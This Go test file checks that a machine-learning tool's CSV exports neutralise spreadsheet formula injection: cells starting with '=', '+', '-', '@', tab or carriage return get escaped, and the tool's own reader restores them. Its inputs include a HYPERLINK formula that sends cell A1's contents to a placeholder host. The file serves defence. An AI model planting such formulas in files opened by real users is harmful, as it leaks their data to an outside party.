// Test that spreadsheets compute nothing of what is taken away.

package export

import (
	"slices"
	"strings"
	"testing"

	"dcctree/core/dataset"
	"dcctree/core/topology"
	"dcctree/core/tree"
)

// TestTablesHoldNoFormulas: names, labels and cells that spreadsheets would compute stand behind an apostrophe, numbers
// do not, and our own reader gives them all back.
func TestTablesHoldNoFormulas(t *testing.T) {
	const link = `=HYPERLINK("//h.example/?"&A1,"x")`
	texts := []string{"=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "'=1", link, "-1.5"}
	c := Columns{Features: texts, Classes: texts}
	table := PredictionsHead(texts, c)
	for k := range texts {
		table += PredictionCSV(texts, c, &Predicted{Class: k, Probabilities: make([]float64, len(texts))})
	}
	got := reread(t, table, 2*len(texts)+1)
	for j, want := range texts {
		if got.Columns[j].Name != strings.Trim(want, "\t") { // a name has no space around it
			t.Errorf("column %q, want %q", got.Columns[j].Name, want)
		}
	}
	if cell := got.AppendRow(nil, 0); !slices.Equal(cell[:len(texts)], texts) {
		t.Errorf("cells %q, want %q", cell, texts)
	}
	if class := got.Columns[len(texts)]; class.Distinct != len(texts) || !slices.Contains(class.Labels, link) {
		t.Errorf("classes %q", class.Labels)
	}

	stump := topology.Root().Grow(0)
	flat := make([]float64, len(texts))
	one := slices.Clone(flat)
	one[7] = 1
	drawn := tree.Tree{Nodes: []tree.Node{{Rule: tree.Blend{Weights: one}, Right: 2}, {Answer: tree.Classes(flat)},
		{Answer: tree.Classes(flat)}}}
	trees := TreesHead(c) + TreesCSV(c, TreeDraws{Topology: "{1,2}", Nodes: stump.Nodes(), Weights: []float64{1},
		Trees: []tree.Tree{drawn}, Crossings: [][]float64{{-2}}})
	got = reread(t, trees, 11+2*len(texts))
	if f := got.Columns[7]; !slices.Equal(f.Labels, []string{link}) {
		t.Errorf("feature %q, want %q", f.Labels, link)
	}
	if v := got.Columns[10+len(texts)]; v.Name != "value" || !slices.Equal(v.Labels, []string{"=1+1"}) {
		t.Errorf("value %q", v.Labels)
	}
}

// TestPredictionsHeadNamesEachColumnOnce: also where a target has the name of a column that stands before it.
func TestPredictionsHeadNamesEachColumnOnce(t *testing.T) {
	got := PredictionsHead([]string{"file", "row", "row"}, Columns{Classes: []string{"a", "b"}})
	if want := "file,row,row_,predicted_class,p_a,p_b\n"; got != want {
		t.Errorf("%q, want %q", got, want)
	}
}

// reread has the table read by our own reader, after looking at it as a spreadsheet does.
func reread(t *testing.T, table string, columns int) *dataset.Table {
	t.Helper()
	cells := strings.FieldsFunc(table, func(c rune) bool { return c == ',' || c == '\n' || c == '"' })
	for _, cell := range cells {
		if strings.IndexByte("=+-@\t\r", cell[0]) >= 0 && cell != "-1.5" && cell != "-2" {
			t.Errorf("a cell begins with %q", cell)
		}
	}
	got, err := dataset.ReadCSV("t", []byte(table),
		dataset.ReadOptions{Separator: ",", Header: dataset.HeaderPresent})
	if err != nil {
		t.Fatalf("%v\n%s", err, table)
	}
	if len(got.Columns) != columns {
		t.Fatalf("%d columns, want %d", len(got.Columns), columns)
	}
	return got
}
